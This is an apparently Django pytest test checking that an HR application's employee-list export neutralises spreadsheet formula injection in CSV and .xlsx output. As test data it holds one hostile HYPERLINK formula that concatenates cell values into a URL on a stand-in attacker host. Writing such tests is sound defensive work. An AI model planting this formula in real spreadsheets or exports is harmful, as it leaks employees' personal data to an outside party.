"""The employees list exports a name typed as a formula as text: an apostrophe before it in
CSV, a text cell in .xlsx."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from effectif.employees.models import Employee

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&A2&D2,"Dossier")'


def test_the_list_exports_a_hostile_name_as_text(client_for, hr_manager, world) -> None:
    Employee.objects.filter(pk=world.member.pk).update(last_name=HOSTILE, first_names="@Alex")
    client = client_for(hr_manager)
    response = client.get("/salaries/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    member = next(row for row in rows if row[0] == world.member.matricule)
    assert member[2] == "'" + HOSTILE
    assert member[3] == "'@Alex"
    xlsx = client.get("/salaries/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)
